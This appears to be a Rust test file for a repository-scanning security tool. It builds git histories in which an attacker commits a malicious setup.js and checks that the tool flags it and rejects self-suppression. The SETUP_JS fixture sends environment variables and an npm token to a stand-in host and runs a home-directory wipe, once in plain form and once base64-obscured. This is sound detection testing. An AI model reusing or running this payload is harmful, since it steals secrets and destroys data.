//! `s-express analyze --repo`: repositories built with git2 in a temporary directory.

use git2::Oid;

use super::{json, stderr, sx, sx_in, write};

#[path = "../../../forge/tests/forge/test_repo.rs"]
mod test_repo;
pub use test_repo::TestRepo;

/// One commit an hour from 2023-11-14, at UTC+1.
pub fn test_repo() -> TestRepo {
    TestRepo::with_clock(1_700_000_000, 3600, 60)
}

/// The work tree as a `&str`, for command lines.
pub fn path_str(repo: &TestRepo) -> &str {
    repo.path().to_str().unwrap()
}

pub const ALICE: (&str, &str) = ("Alice Maintainer", "alice@example.test");
pub const MALLORY: (&str, &str) = ("Mallory", "mallory@example.test");

pub const SETUP_JS: &[u8] = b"const https = require('https');
const { execSync } = require('child_process');
const data = Buffer.from(JSON.stringify(process.env)).toString('base64');
const token = process.env.NPM_TOKEN;
const req = https.request({ hostname: 'collector.example.invalid', method: 'POST' });
req.write(data + token);
req.end();
execSync(Buffer.from('cm0gLXJmIH4v', 'base64').toString());
execSync('rm -rf ~/');
";

/// A small project with history by Alice, then a commit by Mallory adding `scripts/setup.js`.
pub fn project_with_payload() -> (TestRepo, Oid, Oid) {
    let mut r = test_repo();
    r.commit(
        ALICE,
        "Initial commit",
        &[
            ("README.md", Some(b"# Project\n")),
            ("src/lib.js", Some(b"module.exports = 1;\n")),
        ],
    );
    for i in 0..3 {
        let body = format!("module.exports = {i};\n");
        r.commit(
            ALICE,
            &format!("Bump {i}"),
            &[("src/lib.js", Some(body.as_bytes()))],
        );
    }
    let base = r.repo.head().unwrap().target().unwrap();
    let evil = r.commit(
        MALLORY,
        "Fix typo in setup",
        &[("scripts/setup.js", Some(SETUP_JS))],
    );
    (r, base, evil)
}

#[test]
fn a_repository_range_is_analysed_with_commit_metadata() {
    let (r, base, _) = project_with_payload();
    let range = format!("{base}..HEAD");
    let o = sx(
        &[
            "analyze",
            "--repo",
            path_str(&r),
            &range,
            "--format",
            "json",
            "--fail-on",
            "high",
        ],
        None,
    );
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report = json(&o);
    assert_eq!(report["summary"]["commits"], 1);
    assert_eq!(report["summary"]["files"], 1);
    assert_eq!(report["summary"]["added_lines"], 9);
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["path"] == "scripts/setup.js"),
        "{report}"
    );
}

#[test]
fn a_single_commit_is_diffed_against_its_parent_and_head_is_the_default() {
    let (r, _, evil) = project_with_payload();
    let one = json(&sx(
        &[
            "analyze",
            "--repo",
            path_str(&r),
            &evil.to_string(),
            "--format",
            "json",
        ],
        None,
    ));
    let default = json(&sx(
        &["analyze", "--repo", path_str(&r), "--format", "json"],
        None,
    ));
    assert_eq!(one, default);
    assert_eq!(one["summary"]["files"], 1);
}

#[test]
fn an_unknown_revision_exits_2_with_help() {
    let (r, _, _) = project_with_payload();
    let o = sx(
        &["analyze", "--repo", path_str(&r), "no-such-branch..HEAD"],
        None,
    );
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(
        err.contains("no-such-branch") && err.contains("help:"),
        "{err}"
    );
}

#[test]
fn a_directory_that_is_no_repository_exits_2_with_help() {
    let dir = tempfile::tempdir().unwrap();
    let o = sx(&["analyze", "--repo", dir.path().to_str().unwrap()], None);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("help: pass the path of a git"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn the_change_cannot_suppress_its_own_findings() {
    let (mut r, _, _) = project_with_payload();
    let before = json(&sx(
        &["analyze", "--repo", path_str(&r), "--format", "json"],
        None,
    ));
    let f = &before["findings"][0];
    let config = format!(
        "[[suppress]]\npath = \"{}\"\ndetector = \"{}\"\nfingerprint = \"{}\"\nreason = \"trust me\"\n",
        f["path"].as_str().unwrap(),
        f["id"].as_str().unwrap(),
        f["fingerprint"].as_str().unwrap()
    );
    // Mallory's next commit adds a suppression for her own payload, and re-adds the payload.
    r.commit(MALLORY, "Tidy", &[("scripts/setup.js", None)]);
    let base = r.repo.head().unwrap().target().unwrap();
    r.commit(
        MALLORY,
        "Add config",
        &[
            (".s-express.toml", Some(config.as_bytes())),
            ("scripts/setup.js", Some(super::repo::SETUP_JS)),
        ],
    );
    let range = format!("{base}..HEAD");
    let after = json(&sx(
        &[
            "analyze",
            "--repo",
            path_str(&r),
            &range,
            "--format",
            "json",
        ],
        None,
    ));
    assert!(
        after.get("suppressed").is_none(),
        "config from the change itself was applied: {after}"
    );

    // Once the configuration is part of the base, it applies to the same content.
    r.commit(ALICE, "Remove setup", &[("scripts/setup.js", None)]);
    let again = r.commit(
        MALLORY,
        "Re-add setup",
        &[("scripts/setup.js", Some(SETUP_JS))],
    );
    let third = json(&sx(
        &[
            "analyze",
            "--repo",
            path_str(&r),
            &again.to_string(),
            "--format",
            "json",
        ],
        None,
    ));
    assert_eq!(third["suppressed"][0]["reason"], "trust me", "{third}");
}

#[test]
fn a_config_file_in_the_working_tree_does_not_override_the_base_revision() {
    let (r, _, _) = project_with_payload();
    // An attacker-controlled checkout: a suppression-all attempt with a broken file would fail
    // loudly if read; it must be ignored for --repo because the base has no config.
    write(r.path(), ".s-express.toml", b"not toml at all [[[");
    let o = sx_in(
        r.path(),
        &["analyze", "--repo", ".", "--format", "json"],
        None,
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
}
